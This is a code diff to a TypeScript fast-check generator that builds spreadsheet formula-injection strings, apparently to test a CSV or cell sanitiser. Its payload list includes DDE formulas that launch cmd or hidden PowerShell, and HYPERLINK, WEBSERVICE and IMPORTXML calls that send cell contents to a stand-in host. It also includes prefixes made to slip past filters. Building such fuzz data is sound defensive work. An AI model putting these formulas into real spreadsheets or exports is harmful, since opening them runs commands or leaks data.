@@ -3,9 +3,44 @@ import * as fc from 'fast-check';
 
 /** What a cell may begin with so that the rest is read as a formula, or so that a filter does not see that it would be. */
 const PREFIXES = [
-  ...['', '=', '+', '-', '@', '＝', '＋', '－', '＠'],
-  ...['\t=', '\r=', '\n=', '\r\n=', '\0=', '\u0001=', '\u001f=', ' =', '  +', '　=', '\u00a0=', '\u200b=', '\ufeff='],
-  ...["'", "'=", "''=", '"=', ';=', ',=', '|=', '%=', '(=', '{=', '\u202e=', '\u200f+', '=-', '=+', '-=', '@='],
+  '',
+  '=',
+  '+',
+  '-',
+  '@',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  '\t=',
+  '\r=',
+  '\n=',
+  '\r\n=',
+  '\0=',
+  '\u0001=',
+  '\u001f=',
+  ' =',
+  '  +',
+  '　=',
+  '\u00a0=',
+  '\u200b=',
+  '\ufeff=',
+  "'",
+  "'=",
+  "''=",
+  '"=',
+  ';=',
+  ',=',
+  '|=',
+  '%=',
+  '(=',
+  '{=',
+  '\u202e=',
+  '\u200f+',
+  '=-',
+  '=+',
+  '-=',
+  '@=',
 ];
 
 const PAYLOADS = [
@@ -13,10 +48,10 @@ const PAYLOADS = [
   "cmd|'/c powershell -w hidden'!_xlbgnm.A1",
   'HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
   'WEBSERVICE("http://example.invalid/"&A1)',
-  "IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
-  'SUM(1+1)*cmd|\' /C calc\'!A0',
+  'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
+  "SUM(1+1)*cmd|' /C calc'!A0",
   '1+1',
-  '2+3+cmd|\'/C calc\'!A0',
+  "2+3+cmd|'/C calc'!A0",
   'DDE("cmd";"/C calc";"x")',
   "'C:\\[x.xls]S'!A1",
   'A1',
@@ -54,6 +89,7 @@ export function injections(count: number, seed: number): readonly string[] {
   const one = fc.tuple(fc.constantFrom(...PREFIXES), fc.constantFrom(...PAYLOADS), fc.constantFrom('', '', '', ' ', '\n', '\t', "'", '"', '\0'));
   return fc.sample(one, { numRuns: count, seed }).map(([prefix, payload, end], nth) => {
     const text = `${prefix}${payload}${MARKS(nth)}`;
-    return nth % 100 === 99 ? text + '长'.repeat(LONG - text.length) : text + end;
+    // On one line: LibreOffice breaks so long a text anew where it has several.
+    return nth % 100 === 99 ? text.replace(/[\t\r\n]/g, ' ') + '长'.repeat(LONG - text.length) : text + end;
   });
 }
